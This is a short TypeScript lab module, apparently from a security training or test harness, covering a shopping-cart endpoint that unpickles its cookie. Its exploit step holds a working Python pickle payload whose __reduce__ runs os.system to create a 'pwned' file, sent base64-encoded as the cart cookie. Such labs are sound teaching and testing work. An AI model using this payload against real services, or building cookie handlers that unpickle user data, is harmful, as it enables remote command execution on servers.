import type { LabModule } from '../../labModule';

const BOMB = [
  'import base64, os, pickle',
  'class Bomb:',
  '    def __reduce__(self):',
  '        return os.system, ("touch pwned",)',
  'print(base64.b64encode(pickle.dumps(Bomb())).decode())',
];

export const lab: LabModule = {
  fixedBy: 'hand',
  cases: [
    {
      name: 'a cookie that runs a command',
      honest: [
        { to: '/cart', shows: '[]' },
        { to: 'POST /cart', form: { item: 'tea' }, shows: 'true' },
        { to: '/cart', shows: 'tea' },
      ],
      exploit: [
        { python: BOMB, saveAs: 'cart' },
        { to: '/cart', headers: { Cookie: ({ cart }) => `cart=${cart}` } },
      ],
      proof: { file: 'pwned' },
    },
  ],
};
